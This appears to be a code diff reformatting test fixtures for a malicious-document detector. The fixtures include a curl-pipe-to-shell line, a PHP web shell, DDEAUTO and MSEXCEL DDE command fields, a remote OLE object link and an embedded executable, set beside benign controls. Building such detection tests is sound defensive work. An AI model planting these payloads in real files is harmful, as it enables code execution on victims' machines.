@@ -49,7 +49,8 @@ SCRIPTS = {
     "py": b"import os\nos.system('calc')\n",
     "sh": b"curl -s http://x/a | sh\n",
     "shebang": b"#!/usr/bin/env python3\nprint(1)\n",
-    "reg": b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",
+    "reg": b"Windows Registry Editor Version 5.00\r\n"
+    b"[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",
     "url": b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
     "php": b"<?php system($_GET['c']); ?>\n",
     "vba": b'Private Sub Document_Open()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
@@ -361,7 +362,8 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
             "总结报告.docx",
             _docx_with(
                 {},
-                types='<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+                types='<Types><Override PartName="/word/document.xml" '
+                'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
             ),
         ),
         ("总结报告.docx", _docx_with({"word/embeddings/oleObject1.bin": _ole({"\x01Ole10Native": PE})})),
@@ -420,7 +422,8 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
                 REAL_DOCX,
                 change={
                     "word/document.xml": _in_body(
-                        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"/></w:p>'
+                        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+                        '&quot;/k calc.exe&quot;"/></w:p>'
                     )
                 },
             ),
@@ -448,7 +451,9 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
                 REAL_XLSX,
                 change={
                     SHEET: _in_sheet(
-                        '<row r="90"><c r="A90"><f>MSEXCEL|&apos;\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc&apos;!&apos;&apos;</f></c></row>'
+                        '<row r="90"><c r="A90"><f>'
+                        "MSEXCEL|&apos;\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc&apos;!&apos;&apos;"
+                        "</f></c></row>"
                     )
                 },
             ),
@@ -465,8 +470,11 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
             _rezip(
                 REAL_XLSX,
                 {
-                    "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
-                    b'ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
+                    "xl/externalLinks/externalLink1.xml": (
+                        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/>'
+                        b"</ddeItems></ddeLink></externalLink>"
+                    )
                 },
             ),
         ),
@@ -481,7 +489,8 @@ DISGUISES: dict[str, list[tuple[str, bytes]]] = {
                 change={
                     "word/_rels/document.xml.rels": lambda d: d.replace(
                         b"</Relationships>",
-                        b'<Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
+                        b'<Relationship Id="rId996" '
+                        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
                         b'Target="http://10.0.0.1/index.html!" TargetMode="External"/></Relationships>',
                     )
                 },
@@ -655,9 +664,11 @@ def _legit() -> list[tuple[str, bytes]]:
                 REAL_DOCX,
                 change={
                     "word/document.xml": _in_body(
-                        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "http://tjj.example.cn/dde" </w:instrText>'
-                        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE 说明</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
-                        '</w:r></w:p><w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
+                        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                        '<w:r><w:instrText> HYPERLINK "http://tjj.example.cn/dde" </w:instrText></w:r>'
+                        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE 说明</w:t></w:r>'
+                        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+                        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
                     )
                 },
                 add={"word/_rels/footer1.xml.rels": _rels("hyperlink", "http://tjj.example.cn/")},
@@ -669,9 +680,11 @@ def _legit() -> list[tuple[str, bytes]]:
                 REAL_XLSX,
                 change={
                     SHEET: _in_sheet(
-                        '<row r="90"><c r="A90"><f>SUM(B2:B3)</f></c><c r="B90"><f>IF(A90&gt;60,"达标","未达标")</f></c>'
+                        '<row r="90"><c r="A90"><f>SUM(B2:B3)</f></c>'
+                        '<c r="B90"><f>IF(A90&gt;60,"达标","未达标")</f></c>'
                         '<c r="C90"><f>HYPERLINK("http://tjj.example.cn","统计局")</f></c>'
-                        '<c r="D90"><f>A1&amp;"x|y"&amp;Sheet1!B1</f></c><c r="E90"><f>TEXTJOIN("|",TRUE,Sheet1!A1:A3)</f></c></row>'
+                        '<c r="D90"><f>A1&amp;"x|y"&amp;Sheet1!B1</f></c>'
+                        '<c r="E90"><f>TEXTJOIN("|",TRUE,Sheet1!A1:A3)</f></c></row>'
                     )
                 },
             ),
